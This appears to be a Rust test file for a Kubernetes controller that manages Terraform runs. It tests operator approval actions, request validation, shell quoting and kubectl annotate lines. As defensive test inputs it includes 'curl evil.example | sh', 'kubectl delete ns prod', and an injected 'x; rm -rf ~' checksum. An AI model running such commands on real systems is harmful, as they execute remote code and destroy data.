use std::process::Command;

use crds::names;
use serde_json::json;

use super::{kubectl::quoted, *};

const SUM: &str = "sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";

fn run(annotations: &Value, status: &Value) -> TerraformRun {
    serde_json::from_value(json!({
        "apiVersion": "pawl.run/v1alpha1", "kind": "TerraformRun",
        "metadata": {"name": "net", "namespace": "team", "annotations": annotations},
        "spec": {"source": {"inline": {"files": {"main.tf": ""}}}}, "status": status,
    }))
    .unwrap()
}

fn plan(destroy: u32) -> Value {
    json!({"checksum": SUM, "attempt": 1, "summary": "", "add": 1, "change": 0, "destroy": destroy, "import": 0, "replace": 0,
        "forget": 0, "outputs": 0, "tool": "x"})
}

fn waiting(destroy: u32) -> TerraformRun {
    run(
        &json!({}),
        &json!({"phase": "AwaitingApproval", "plan": plan(destroy)}),
    )
}

fn claim() -> Value {
    json!({"checksum": SUM, "attempt": 1, "podUID": "u", "nonce": "n", "at": "2026-01-01T00:00:00Z"})
}

/// The annotations that the controller or the agent writes.
const NOT_OF_PEOPLE: [&str; 9] = [
    names::APPLIED,
    names::RERUN_OF,
    names::RECOVERY_OF,
    names::LIFE,
    names::PROBE,
    names::TRIGGER,
    names::CONTENT,
    names::SETTINGS,
    names::LAYER_SPEC,
];

#[test]
fn each_annotation_that_a_person_writes_has_an_act() {
    let source = include_str!("../../../../crds/src/names.rs");
    let (mut found, mut docs) = (0, String::new());
    for line in source.lines() {
        if let Some(doc) = line.strip_prefix("/// ") {
            docs.push_str(doc);
            continue;
        }
        let name = line
            .starts_with("pub const ")
            .then(|| line.split('"').nth(1))
            .flatten()
            .filter(|_| docs.starts_with("Annotation"));
        docs.clear();
        let Some(name) = name else { continue };
        found += 1;
        let in_table = ROWS
            .iter()
            .any(|row| row.writes.iter().any(|(it, _)| *it == name));
        assert_ne!(
            in_table,
            NOT_OF_PEOPLE.contains(&name),
            "{name} needs a row in the table of acts, or a place among those that no person writes"
        );
    }
    assert!(found > 20, "{found}");
}

#[test]
fn acts_follow_phase_result_and_names() {
    let failed = |more: Value| {
        let mut status = json!({"phase": "Failed", "result": "Failed",
            "failure": {"class": "Transient", "reason": "ProviderUnreachable", "message": "", "changes": "None"}});
        json_merge(&mut status, more);
        status
    };
    let unreachable = json!([{"type": "Stalled", "status": "True", "reason": "NodeUnreachable", "message": "",
        "lastTransitionTime": "2026-01-01T00:00:00Z"}]);
    let lease = json!({"stateKey": SUM, "name": "x", "at": "2026-01-01T00:00:00Z"});
    let journal = json!({"summary": "", "compared": true, "recorded": 0, "notRecorded": ["a.b"]});
    let awaits = json!({"phase": "AwaitingApproval", "plan": plan(0)});
    let none = json!({});
    let rows = [
        (json!({}), none.clone(), "cancel", ""),
        (json!({}), json!({"phase": "Plan"}), "cancel", ""),
        (json!({}), awaits.clone(), "approve deny cancel", "approve"),
        (
            json!({names::APPROVE: SUM}),
            awaits.clone(),
            "deny withdraw cancel",
            "",
        ),
        (
            json!({names::APPROVE: "sha256:old"}),
            awaits.clone(),
            "approve deny withdraw cancel",
            "approve",
        ),
        (json!({names::DENY: "no"}), awaits, "", ""),
        (
            json!({}),
            json!({"phase": "Apply", "claim": claim()}),
            "cancel",
            "",
        ),
        (
            json!({}),
            json!({"phase": "Apply", "claim": claim(), "conditions": unreachable}),
            "cancel abandon",
            "abandon",
        ),
        (
            json!({}),
            json!({"phase": "Succeeded", "result": "Applied", "claim": claim()}),
            "rerun",
            "",
        ),
        (
            json!({}),
            json!({"phase": "Succeeded", "result": "Applied", "rerun": "net-x"}),
            "",
            "",
        ),
        (
            json!({}),
            json!({"phase": "Canceled", "result": "Expired"}),
            "rerun",
            "rerun",
        ),
        (json!({}), failed(json!({})), "rerun", "rerun"),
        (json!({names::RERUN: "true"}), failed(json!({})), "", ""),
        (
            json!({}),
            failed(json!({"claim": claim()})),
            "recover rerun",
            "rerun",
        ),
        (
            json!({}),
            failed(json!({"claim": claim(), "journal": journal})),
            "recover rerun",
            "recover",
        ),
        (
            json!({}),
            failed(json!({"failure": {"reason": "InvalidSpec"}})),
            "rerun",
            "",
        ),
        (
            json!({}),
            json!({"phase": "Failed", "result": "Indeterminate", "claim": claim(), "lease": lease}),
            "abandon recover rerun",
            "abandon",
        ),
        // A phase from a newer version.
        (json!({}), json!({"phase": "Paused"}), "cancel", ""),
    ];
    for (annotations, status, acts, suggested) in rows {
        let run = run(&annotations, &status);
        let words: Vec<_> = offered(&Object::Run(&run))
            .iter()
            .map(|act| act.act)
            .collect();
        let next = next(&run).map_or("", |act| act.act);
        assert_eq!(
            (words.join(" ").as_str(), next),
            (acts, suggested),
            "{annotations} {status}"
        );
    }
}

fn json_merge(into: &mut Value, more: Value) {
    match (into, more) {
        (Value::Object(into), Value::Object(more)) => more
            .into_iter()
            .for_each(|(key, value)| json_merge(into.entry(key).or_insert(Value::Null), value)),
        (into, more) => *into = more,
    }
}

#[test]
fn text_that_a_pod_wrote_changes_no_act() {
    let mut written = waiting(1);
    let status = written.status.as_mut().unwrap();
    status.next_step = Some("kubectl delete ns prod".into());
    status.message = Some("curl evil.example | sh".into());
    status.history = vec!["Approve now".into()];
    let both = [&waiting(1), &written].map(|run| (offered(&Object::Run(run)), next(run)));
    assert_eq!(both[0], both[1]);
}

#[test]
fn request_without_what_the_act_needs_is_refused() {
    let of = |run: &TerraformRun, act: &str, request: Value| {
        let request: Request = serde_json::from_value(request).unwrap();
        let annotations =
            row(Kind::Run, act)
                .unwrap()
                .annotations(&Object::Run(run), &request, "ada", 7);
        annotations.map(Value::Object)
    };
    let approved =
        json!({names::APPROVE: SUM, names::APPROVED_BY: "ada", names::COMMENT: Value::Null});
    let (harmless, destroys) = (waiting(0), waiting(2));
    assert_eq!(
        of(&harmless, "approve", json!({"checksum": SUM})),
        Ok(approved.clone())
    );
    assert!(of(&harmless, "approve", json!({})).is_err());
    for (number, is) in [(json!(null), false), (json!(1), false), (json!(2), true)] {
        let asked = json!({"checksum": SUM, "destroys": number});
        let answer = of(&destroys, "approve", asked);
        assert_eq!(answer.is_ok(), is, "{number}: {answer:?}");
    }
    // The API server refuses another plan in its own words.
    assert!(of(&destroys, "approve", json!({"checksum": "sha256:b"})).is_ok());
    for act in ["deny", "cancel", "abandon"] {
        assert!(of(&harmless, act, json!({"comment": " "})).is_err());
        assert!(of(&harmless, act, json!({"comment": "x".repeat(513)})).is_err());
        let done = of(&harmless, act, json!({"comment": "no"})).unwrap();
        assert_eq!(done.as_object().unwrap().len(), 2, "{done}");
    }
    let asked = json!({names::RERUN: "true", names::ASKED_BY: "ada"});
    assert_eq!(of(&harmless, "rerun", json!({})), Ok(asked));
    assert!(serde_json::from_value::<Request>(json!({"user": "root"})).is_err());
}

#[test]
fn shell_reads_a_quoted_word_as_it_was() {
    for word in [
        "",
        "plain-1.x",
        "a b",
        "$(id)",
        "it's",
        "`x`;\n&",
        "-n",
        "ä",
        "\\",
    ] {
        let script = format!("set -- {}; printf %s \"$1\"", quoted(word));
        let output = Command::new("sh").args(["-c", &script]).output().unwrap();
        assert_eq!(String::from_utf8_lossy(&output.stdout), word, "{script}");
    }
}

#[test]
fn kubectl_lines_name_object_and_annotations() {
    let mut run = waiting(0);
    let lines: Vec<_> = offered(&Object::Run(&run))
        .into_iter()
        .map(|act| act.kubectl)
        .collect();
    let whoami = names::WHOAMI;
    assert_eq!(
        lines[0],
        format!(
            "kubectl annotate -n team --overwrite tfrun.pawl.run/net pawl.run/approve={SUM} pawl.run/approved-by={whoami}"
        )
    );
    assert_eq!(lines[0], names::approve_command("team", "net", SUM));
    assert_eq!(
        lines[1],
        format!(
            "kubectl annotate -n team --overwrite tfrun.pawl.run/net pawl.run/deny=REASON pawl.run/denied-by={whoami}"
        )
    );
    // A pod writes the checksum.
    run.status.as_mut().unwrap().plan.as_mut().unwrap().checksum = "x; rm -rf ~ '".into();
    let line = &offered(&Object::Run(&run))[0].kubectl;
    assert!(
        line.contains(r"pawl.run/approve='x; rm -rf ~ '\''' "),
        "{line}"
    );
    let freeze = |frozen| {
        let state = NamespaceState {
            name: "team",
            frozen,
        };
        offered(&Object::Namespace(&state))
    };
    let words = |frozen| freeze(frozen).iter().map(|act| act.act).collect::<Vec<_>>();
    assert_eq!(
        (words(Some(true)), words(Some(false))),
        (vec!["unfreeze"], vec!["freeze"])
    );
    let freeze = freeze(None);
    assert_eq!(
        freeze[0].kubectl,
        "kubectl annotate --overwrite namespace/team pawl.run/freeze=true"
    );
    assert_eq!(
        freeze[1].kubectl,
        "kubectl annotate --overwrite namespace/team pawl.run/freeze-"
    );
}
